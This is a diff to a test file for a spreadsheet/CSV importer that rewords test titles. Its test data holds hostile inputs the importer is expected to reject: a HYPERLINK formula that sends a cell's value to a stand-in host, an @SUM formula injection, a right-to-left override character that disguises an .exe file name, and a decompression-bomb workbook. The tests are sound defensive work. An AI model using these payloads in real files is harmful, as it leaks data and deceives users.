@@ -42,8 +42,16 @@ describe('a hostile file ends in a message', () => {
     ['a ragged row', `${header}${product.id},Scarf\n`, /2 cells where the header has 3/],
     ['NUL', `${header}${product.id},Sc\0arf,20\n`, /Line 2 .*NUL/],
     ['a formula', `${header}${product.id},"=HYPERLINK(""http://x/?""&A1)",20\n`, /is a formula/],
-    ['a formula that begins otherwise', `${header}${product.id},@SUM(1+1),20\n`, /is a formula/],
-    ['signs that turn the text', `${header}${product.id},Scarf \u202Efdp.exe,20\n`, /U\+202E/],
+    [
+      'a formula with another first character',
+      `${header}${product.id},@SUM(1+1),20\n`,
+      /is a formula/,
+    ],
+    [
+      'characters that reverse the text direction',
+      `${header}${product.id},Scarf \u202Efdp.exe,20\n`,
+      /U\+202E/,
+    ],
     ['3,001 rows for one id', header + many(3_001, row), /Another row is about the same/],
     [
       'text behind a quote',
@@ -51,7 +59,7 @@ describe('a hostile file ends in a message', () => {
       /behind a closing quotation mark/,
     ],
     ['nothing', '\n\n\n', /is empty/],
-    ['an amount that is none', `${header}${product.id},Scarf,12.5.1\n`, /is not an amount/],
+    ['an invalid amount', `${header}${product.id},Scarf,12.5.1\n`, /is not an amount/],
   ])('%s', async (_, text, expected) => {
     expect(await messageOf(csv(text))).toMatch(expected)
   })
@@ -74,7 +82,7 @@ describe('a hostile file ends in a message', () => {
     expect(await messageOf(readFile(name, content))).toMatch(expected)
   })
 
-  test('a workbook that swells when it is unpacked', async () => {
+  test('a workbook that expands when it is unpacked', async () => {
     expect(await messageOf(readFile('a.xlsx', lyingArchive(900 * 1024 * 1024)))).toMatch(/Unpacked/)
   })
 })
@@ -83,7 +91,7 @@ test.each([
   [101, 1, true],
   [99, 1, false],
   [15, 0.001, false],
-])('a workbook of %d MB that packs to %d MB swells: %s', async (size, packed, isRejected) => {
+])('a workbook of %d MB that packs to %d MB expands: %s', async (size, packed, isRejected) => {
   const file = lyingArchive(size * 1024 * 1024, packed * 1024 * 1024)
   expect(/Unpacked/.test(await messageOf(readFile('a.xlsx', file)))).toBe(isRejected)
 })
@@ -117,13 +125,13 @@ describe('an unusual table is read', () => {
   }
   const latin = Uint8Array.from(text, (sign: string) => sign.codePointAt(0) ?? 0)
   test.each<[string, Uint8Array<ArrayBuffer>, string]>([
-    ['UTF-16 with its mark', wide(true, '\uFEFF'), 'utf-16le'],
-    ['UTF-16 the other way round', wide(false, '\uFEFF'), 'utf-16be'],
-    ['UTF-16 without a mark', wide(true, ''), 'utf-16le'],
+    ['UTF-16 with a byte order mark', wide(true, '\uFEFF'), 'utf-16le'],
+    ['UTF-16 in the other byte order', wide(false, '\uFEFF'), 'utf-16be'],
+    ['UTF-16 without a byte order mark', wide(true, ''), 'utf-16le'],
     ['what Windows writes', latin, 'windows-1252'],
-    ['lines that end as on an old Mac', bytes(text.replaceAll('\n', '\r')), 'utf-8'],
+    ['line endings of an old Mac', bytes(text.replaceAll('\n', '\r')), 'utf-8'],
     ['semicolons', bytes(text.replaceAll(',', ';')), 'utf-8'],
-    ['tabs and a mark', bytes(`\uFEFF${text.replaceAll(',', '\t')}`), 'utf-8'],
+    ['tabs and a byte order mark', bytes(`\uFEFF${text.replaceAll(',', '\t')}`), 'utf-8'],
   ])('%s', async (_, content, encoding) => {
     const read = await readFile('a.csv', content)
     expect(read.encoding).toBe(encoding)
@@ -132,7 +140,7 @@ describe('an unusual table is read', () => {
     expect(changed.map(({ change }) => change?.set)).toEqual([{ name: 'Schal größer' }])
   })
 
-  test('cells that were copied', () => {
+  test('copied cells', () => {
     const read = readCells(`Shelfside product ID\tName\n${product.id}\t"Scarf ""new""\nedition"\n`)
     const { changed } = hold(read, [product])
     expect(changed[0]?.change?.set).toEqual({ name: 'Scarf "new"\nedition' })
